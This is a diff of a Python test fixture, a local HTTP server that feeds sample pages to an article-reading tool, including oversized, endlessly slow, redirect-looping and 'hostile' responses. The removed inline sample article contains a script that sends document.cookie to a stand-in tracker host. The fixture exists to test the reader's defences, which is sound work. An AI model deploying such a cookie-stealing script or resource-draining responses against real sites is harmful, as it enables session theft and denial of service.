@@ -9,36 +9,9 @@ import time
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 
-ARTICLE_HTML = """<!doctype html>
-<html lang="en-GB"><head>
-<title>Leaders pledge support | The Harbour Ledger</title>
-<meta property="og:site_name" content="The Harbour Ledger">
-<meta property="og:title" content="Nordic leaders pledge a place in the reassurance force">
-<meta name="author" content="Ada Lindqvist">
-<meta property="article:published_time" content="2026-01-07T08:15:00+01:00">
-<link rel="canonical" href="https://harbour-ledger.example/world/nordic-pledge">
-<script type="application/ld+json">{"@context": "https://schema.org", "@type": "NewsArticle",
- "headline": "Nordic leaders pledge a place in the reassurance force", "datePublished": "2026-01-07T08:15:00+01:00",
- "author": {"@type": "Person", "name": "Ada Lindqvist"},
- "publisher": {"@type": "Organization", "name": "The Harbour Ledger"}}</script>
-<script>document.title = "pwned"; fetch("https://tracker.example/?c=" + document.cookie);</script>
-</head><body>
-<nav><ul><li><a href="/">Front page</a></li><li><a href="/world">World</a></li><li><a href="/sport">Sport</a></li></ul></nav>
-<div class="advert">SPECIAL OFFER: subscribe today and save forty per cent on the Harbour Ledger digital edition</div>
-<article>
-<h1>Nordic leaders pledge a place in the reassurance force</h1>
-<p>PARIS, 6 January 2026 — Norway and Sweden said on Tuesday they were ready to send troops to Ukraine once a
-ceasefire is agreed, as the coalition of the willing met in Paris.</p>
-<p>Finland will fund new air defence systems for Kyiv, its president said, while Hungary reiterated its refusal to
-send soldiers to Ukraine.</p>
-<p>Iceland said it would not deploy troops but would pay for medical supplies for the Ukrainian army.</p>
-</article>
-<aside class="related"><h3>Related stories</h3><ul><li><a href="/a">Ferry timetables change in spring</a></li>
-<li><a href="/b">Ten recipes for the long winter</a></li></ul></aside>
-<footer>Copyright The Harbour Ledger 2026. All rights reserved. Cookie settings.</footer>
-</body></html>
-"""
+ARTICLE_HTML = (Path(__file__).parent / "articles" / "harbour-ledger.html").read_text(encoding="utf-8")
 
 FURNITURE = ("SPECIAL OFFER", "Ferry timetables", "Ten recipes", "All rights reserved", "Front page", "pwned")
 
@@ -118,29 +91,23 @@ def _redirect(to: str) -> Route:
     return handle
 
 
-def _huge(h: BaseHTTPRequestHandler) -> None:  # 100 MB announced and streamed
-    h.send_response(200)
-    h.send_header("Content-Type", "text/html")
-    h.send_header("Content-Length", str(100 * 1024 * 1024))
-    h.end_headers()
-    chunk = b"<p>" + b"x" * 65530 + b"</p>"
-    try:
-        for _ in range(1600):
-            h.wfile.write(chunk)
-    except OSError:
-        pass
+def _huge(announced: bool) -> Route:
+    """100 MB streamed, with its length announced (refused before reading) or not (stopped while reading)."""
 
+    def handle(h: BaseHTTPRequestHandler) -> None:
+        h.send_response(200)
+        h.send_header("Content-Type", "text/html")
+        if announced:
+            h.send_header("Content-Length", str(100 * 1024 * 1024))
+        h.end_headers()
+        chunk = b"<p>" + b"x" * 65530 + b"</p>"
+        try:
+            for _ in range(1600):
+                h.wfile.write(chunk)
+        except OSError:
+            pass
 
-def _huge_unannounced(h: BaseHTTPRequestHandler) -> None:  # no Content-Length: the reader must stop itself
-    h.send_response(200)
-    h.send_header("Content-Type", "text/html")
-    h.end_headers()
-    chunk = b"<p>" + b"y" * 65530 + b"</p>"
-    try:
-        for _ in range(1600):
-            h.wfile.write(chunk)
-    except OSError:
-        pass
+    return handle
 
 
 def _slow(h: BaseHTTPRequestHandler) -> None:  # a byte every 0.2 s, for ever
@@ -165,8 +132,8 @@ class Site:
             "/statement.pdf": _send(STATEMENT_PDF, "application/pdf"),
             "/hostile": _send(HOSTILE_HTML.encode(), "text/html"),
             "/image": _send(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "image/png"),
-            "/huge": _huge,
-            "/huge-unannounced": _huge_unannounced,
+            "/huge": _huge(announced=True),
+            "/huge-unannounced": _huge(announced=False),
             "/slow": _slow,
             "/loop": _redirect("/loop-b"),
             "/loop-b": _redirect("/loop"),
